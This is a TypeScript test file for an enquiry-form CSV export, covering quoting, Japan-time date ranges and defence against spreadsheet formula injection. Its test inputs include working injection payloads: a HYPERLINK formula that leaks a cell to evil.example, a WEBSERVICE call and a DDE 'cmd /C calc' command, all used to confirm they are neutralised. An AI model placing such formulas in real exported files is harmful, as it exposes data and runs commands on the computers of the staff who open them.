import { engines, useTestDb } from '@/lib/test/engines';
import { formatJapanDateTime } from '@/lib/core/time/japan';
import { csvCell, csvFileNames, csvLine } from '@/lib/core/http/csv-download';
import { CSV_COLUMNS, enquiryCsvLines } from './csv';
import type { EnquiryRow } from './inbox';
import { insertEnquiry } from './test-enquiries';

describe('CSV cells', () => {
  test.each([
    ['plain', 'plain'],
    ['', ''],
    [null, ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line 1\nline 2', '"line 1\nline 2"'],
    ['=HYPERLINK("http://evil.example")', `"'=HYPERLINK(""http://evil.example"")"`],
    ['+81 90', "'+81 90"],
    ['-1+2', "'-1+2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\r=1+1', `"'\r=1+1"`],
    ['\u0000=1+1', "'\u0000=1+1"],
    ['a=b', 'a=b'],
  ])('%j becomes %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  test('a line ends with CRLF', () => {
    expect(csvLine(['a', null, 'b,c'])).toBe('a,,"b,c"\r\n');
  });

  test('times are written as the admin screens write them, in Japan time; the file is named by the Japanese date', () => {
    const cell = (header: string, row: Partial<EnquiryRow>) => CSV_COLUMNS.find((column) => column.header === header)?.value(row as EnquiryRow);
    expect(cell('受付日時', { createdAt: '2026-04-30T15:30:00.000Z' })).toBe('2026/05/01 00:30');
    expect(cell('受付日時', { createdAt: '2026-04-30T15:30:00.000Z' })).toBe(formatJapanDateTime('2026-04-30T15:30:00.000Z'));
    expect(cell('メール送信日時', { deliveredAt: null })).toBe('');
    expect(csvFileNames('enquiries', 'お問い合わせ一覧', new Date('2026-04-30T15:30:00.000Z'))).toEqual({ fileName: 'enquiries-20260501.csv', japaneseName: 'お問い合わせ一覧_20260501.csv' });
  });
});

/** The cells of each record of a CSV text (RFC 4180: a quoted cell may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index];
    if (quoted && char === '"' && text[index + 1] === '"') {
      cell += '"';
      index += 1;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === ',') {
      record.push(cell);
      cell = '';
    } else if (!quoted && char === '\r' && text[index + 1] === '\n') {
      records.push([...record, cell]);
      record = [];
      cell = '';
      index += 1;
    } else {
      cell += char;
    }
  }
  return records;
}

describe.each(engines())('the enquiry CSV on $name', (engine) => {
  const t = useTestDb(engine);

  test('the CSV has a Japanese header and every matching enquiry, read in batches', async () => {
    const ids: string[] = [];
    for (let index = 0; index < 7; index += 1) ids.push(await insertEnquiry(t.db, { name: `客${index}` }));
    await insertEnquiry(t.db, { kind: 'franchise', name: '=1+1', message: '改行\nあり, "引用"' });
    const chunks: string[] = [];
    for await (const chunk of enquiryCsvLines(t.db, { kind: 'contact' }, 3)) chunks.push(chunk);
    // The header, then batches of 3, 3 and 1.
    expect(chunks).toHaveLength(4);
    const lines = chunks.join('').split('\r\n').filter(Boolean);
    expect(lines[0]).toBe(CSV_COLUMNS.map((column) => column.header).join(','));
    expect(lines[0]).toContain('受付日時,種別,対応状況,お名前,フリガナ');
    expect(lines.slice(1).map((line) => line.split(',').at(-1))).toEqual([...ids].reverse());
    expect(lines[1]).toContain(',体験・お問い合わせ,未対応,客6,ヤマダ タロウ,男性,30代,03-1234-5678,');
    expect(lines[1]).toContain('"第1希望: 2026年5月1日（金） 10:00\n第2希望: 未指定\n第3希望: 未指定"');

    let franchise = '';
    for await (const chunk of enquiryCsvLines(t.db, { kind: 'franchise' })) franchise += chunk;
    expect(franchise).toContain(`,フランチャイズ,未対応,'=1+1,`);
    expect(franchise).toContain('"改行\nあり, ""引用"""');

    let none = '';
    for await (const chunk of enquiryCsvLines(t.db, { search: 'nobody' })) none += chunk;
    expect(none.split('\r\n').filter(Boolean)).toHaveLength(1);
  });


  test('the export can be limited to days received in Japan time, both bounds included, and refuses a range that is not one', async () => {
    const at = {
      // 2026-04-30 23:59:59.999 and 2026-05-01 00:00 in Japan.
      beforeFirst: await insertEnquiry(t.db, { name: '前日', createdAt: '2026-04-30T14:59:59.999Z' }),
      first: await insertEnquiry(t.db, { name: '初日', createdAt: '2026-04-30T15:00:00.000Z' }),
      // 2026-05-03 23:59:59.999 and 2026-05-04 00:00 in Japan.
      last: await insertEnquiry(t.db, { name: '最終日', createdAt: '2026-05-03T14:59:59.999Z' }),
      afterLast: await insertEnquiry(t.db, { name: '翌日', createdAt: '2026-05-03T15:00:00.000Z' }),
    };
    const ids = async (filter: Parameters<typeof enquiryCsvLines>[1]) => {
      let csv = '';
      for await (const chunk of enquiryCsvLines(t.db, filter)) csv += chunk;
      return csv.split('\r\n').filter(Boolean).slice(1).map((line) => line.split(',').at(-1));
    };
    expect(await ids({ from: '2026-05-01', to: '2026-05-03' })).toEqual([at.last, at.first]);
    expect(await ids({ from: '2026-05-01', to: '2026-05-01' })).toEqual([at.first]);
    expect(await ids({ from: '2026-05-04' })).toEqual([at.afterLast]);
    expect(await ids({ to: '2026-04-30' })).toEqual([at.beforeFirst]);
    for (const [filter, field, message] of [
      [{ from: '2026-05-03', to: '2026-05-01' }, 'from', '開始日は終了日より前の日付にしてください。'],
      [{ from: '2026/05/01' }, 'from', '日付は YYYY-MM-DD の形式で指定してください。'],
      [{ to: '2026-02-30' }, 'to', '日付は YYYY-MM-DD の形式で指定してください。'],
    ] as const) {
      await expect(ids(filter)).rejects.toMatchObject({ extensions: { errorType: 'ValidationError', fields: [{ field, message }] } });
    }
  });

  test('no cell of the CSV starts as a formula, whatever a visitor typed into whichever field', async () => {
    const triggers = ['=', '+', '-', '@', '\t', '\r'];
    const typed = (trigger: string) => ({
      name: `${trigger}HYPERLINK("https://evil.example/?"&A1,"詳細")`,
      furigana: `${trigger}1+1`,
      phone: `${trigger}81 90-1234-5678`,
      email: `${trigger}SUM(1,2)@example.jp`,
      address: `${trigger}cmd|' /C calc'!A0`,
      addressOther: `${trigger}A1`,
      company: `${trigger}WEBSERVICE("https://evil.example")`,
      destination: `${trigger}渋谷店`,
      message: `${trigger}1+1\n=2+2`,
    });
    for (const trigger of triggers) await insertEnquiry(t.db, typed(trigger));
    let csv = '';
    for await (const chunk of enquiryCsvLines(t.db, {})) csv += chunk;
    const [header = [], ...rows] = parseCsv(csv);
    expect(rows).toHaveLength(triggers.length);
    for (const row of rows) {
      expect(row).toHaveLength(CSV_COLUMNS.length);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\0]/);
    }
    // Newest first: each typed value is there in full behind its apostrophe.
    [...triggers].reverse().forEach((trigger, index) => {
      const cellOf = (column: string) => rows[index]?.[header.indexOf(column)];
      const values = typed(trigger);
      expect(cellOf('お名前')).toBe(`'${values.name}`);
      expect(cellOf('フリガナ')).toBe(`'${values.furigana}`);
      expect(cellOf('電話番号')).toBe(`'${values.phone}`);
      expect(cellOf('メールアドレス')).toBe(`'${values.email}`);
      expect(cellOf('住所')).toBe(`'${values.address}`);
      expect(cellOf('建物名・部屋番号')).toBe(`'${values.addressOther}`);
      expect(cellOf('会社名')).toBe(`'${values.company}`);
      expect(cellOf('お問い合わせ先')).toBe(`'${values.destination}`);
      expect(cellOf('お問い合わせ内容')).toBe(`'${values.message}`);
    });
  });
});
